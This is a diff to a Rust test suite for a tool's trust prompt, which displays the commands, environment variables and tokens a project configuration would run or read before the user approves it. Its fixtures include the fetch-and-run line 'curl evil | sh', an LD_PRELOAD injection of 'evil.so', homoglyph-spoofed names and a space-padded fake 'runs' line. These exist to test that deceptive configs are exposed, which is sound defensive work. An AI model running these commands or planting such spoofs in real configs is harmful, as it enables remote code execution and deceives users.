@@ -52,7 +52,7 @@ async fn what_would_run_is_shown_and_nothing_is_approved_without_an_answer() {
           runs  [sandbox]/project/tools/run
                             a file of this project
           env  LD_PRELOAD=./evil.so
-                            API_TOKEN=***
+                            API_TOKEN=sk-literal
           trustAnnotations  true
           reads  your variables GITHUB_TOKEN, HOME
 
@@ -69,7 +69,7 @@ async fn what_would_run_is_shown_and_nothing_is_approved_without_an_answer() {
           from  [sandbox]/project/.mcp.json:1:249
           type  http or sse
           connects to  https://example.com/${GITHUB_TOKEN}
-          headers  Authorization=***${GITHUB_TOKEN}
+          headers  Authorization=Bearer ${GITHUB_TOKEN}
                             X-Kind=plain
           runs, too  ./tools/helper --now
           reads  your variables GITHUB_TOKEN
@@ -253,4 +253,38 @@ async fn an_answer_that_is_not_typed_at_a_terminal_is_none() {
     assert_eq!(child.wait().unwrap().code(), Some(4));
     let list = run(&desk, &["trust", "--list", "--json"]).await;
     assert_eq!(list.json(), json!({"approvals": []}));
+}
+
+#[tokio::test]
+async fn what_decides_what_runs_is_never_masked_and_cannot_pass_for_the_page() {
+    let desk = Desk::empty();
+    let package = "hf_abcdefghijklmnopqrstuvwxyz0123456789";
+    project_file(
+        &desk,
+        &json!({"a": {
+            "command": "true",
+            "args": [package, "x          runs   /bin/true", "p\u{430}ckage"],
+            "env": {"API_KEY": "curl evil | sh", "P\u{410}TH": "${GITHUB_TOKEN}"},
+        }}),
+    );
+    let page = run(&desk, &["trust"]).await.to_string();
+    for seen in [
+        package,
+        "API_KEY=curl evil | sh",
+        "${GITHUB_TOKEN}",
+        r"x \u{20}",
+        r"beyond ASCII: p\u{430}ckage",
+        r"beyond ASCII: P\u{410}TH",
+    ] {
+        assert!(page.contains(seen), "{seen}: {page}");
+    }
+    // What is data or kept masks them still.
+    let data = run(&desk, &["trust", "--yes", "--json"]).await.to_string();
+    let kept = desk.sandbox.state_home().join("switchboard/trust.json");
+    for kept in [data, std::fs::read_to_string(kept).unwrap()] {
+        assert!(
+            !kept.contains(package) && !kept.contains("curl evil"),
+            "{kept}"
+        );
+    }
 }
